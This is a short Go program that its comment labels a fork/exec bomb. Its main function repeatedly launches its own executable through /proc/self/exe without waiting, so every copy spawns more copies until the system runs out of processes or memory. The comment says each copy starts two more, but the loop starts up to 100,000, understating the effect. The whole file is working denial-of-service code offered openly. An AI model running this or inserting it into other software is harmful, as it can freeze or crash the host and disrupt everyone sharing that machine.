// Fork/exec bomb: every copy starts two more copies of itself.
package main

import (
	"fmt"
	"os/exec"
)

func main() {
	for i := 0; i < 100000; i++ {
		cmd := exec.Command("/proc/self/exe")
		if err := cmd.Start(); err != nil {
			fmt.Println("start failed:", err)
			return
		}
	}
}
